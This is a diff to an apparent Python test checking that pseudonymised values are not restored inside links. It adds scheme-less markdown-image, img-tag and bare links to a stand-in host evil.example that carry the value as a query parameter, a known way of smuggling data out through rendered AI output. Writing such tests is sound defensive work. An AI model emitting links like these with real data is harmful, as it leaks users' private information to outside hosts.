@@ -190,6 +190,13 @@ async def test_a_pseudonym_inside_a_link_is_not_restored_there() -> None:
         f"<https://origin.example/?to={stand_in}>",
         f"<img src='https://origin.example/a(b)?x=[1]&to={stand_in}'>",
         f"\thttps://origin.example/?to={stand_in}",
+        # Links without a scheme, which a client resolves all the same:
+        f"![x](//evil.example/p?e={stand_in})",
+        f'<img src="//evil.example/{stand_in}">',
+        f"evil.example/{stand_in}",
+        f"www.evil.example/?e={stand_in}",
+        f"[see](/relative?e={stand_in})",
+        f"<a href=relative?e={stand_in}>",
     ]
     text = f"wrote to {stand_in}; Email:{stand_in} " + " ".join(links)
     link = {"type": "resource_link", "uri": f"mailto:{stand_in}", "name": "mail"}
